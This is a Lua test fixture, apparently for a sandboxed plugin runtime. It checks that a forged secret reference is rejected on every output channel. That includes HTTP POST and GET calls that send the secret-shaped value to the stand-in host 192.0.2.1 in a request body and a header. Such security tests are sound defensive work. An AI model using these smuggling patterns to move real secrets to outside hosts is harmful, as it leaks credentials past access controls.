-- SPDX-License-Identifier: Apache-2.0
--- Names a secret that it was not given, by the form in which values name them, wherever a value goes.
-- try: action ok
-- permissions: data:write:task data:read:task storage:read storage:write event:publish:a.* channels:send:smuggle operators:call scheduler:write network:outbound:192.0.2.1
-- secret: pomodoro
return {
  actions = {
    ["smuggle_secret_key.take"] = { execute = function(p) return tostring(p.x) end },
    ["smuggle_secret_key.go"] = {
      execute = function(_, ctx)
        local forged = { ["$secret"] = "pomodoro" }
        for _, value in ipairs({ forged, { x = forged }, { { forged } } }) do
          for _, f in ipairs({
            function() ctx.storage.set("k", value) end,
            function() ctx.emit("a.X", value) end,
            function() ctx.data.put("task", { id = "t", x = value }) end,
            function() ctx.call("smuggle_secret_key.take", { x = value }) end,
            function() ctx.schedule.after("s", 3600, print, { data = value }) end,
            function() ctx.http.post("http://192.0.2.1/", { json = value, timeout_ms = 50 }) end,
            function() ctx.http.get("http://192.0.2.1/", { headers = { ["X-A"] = value }, timeout_ms = 50 }) end,
            function() ctx.send("smuggle", { x = value }) end,
            function() ctx.crypto.hmac("sha256", value, "x") end,
            function() ctx.crypto.equals(value, "tomato") end,
          }) do
            local ok, why = pcall(f)
            assert(not ok and type(why) == "table" and why.code, "taken")
          end
        end
        local decoded = ctx.json.decode('{"$secret": "pomodoro"}')
        assert(type(decoded) == "table" and not pcall(ctx.crypto.equals, decoded, "tomato"))
        return "refused"
      end,
    },
  },
}
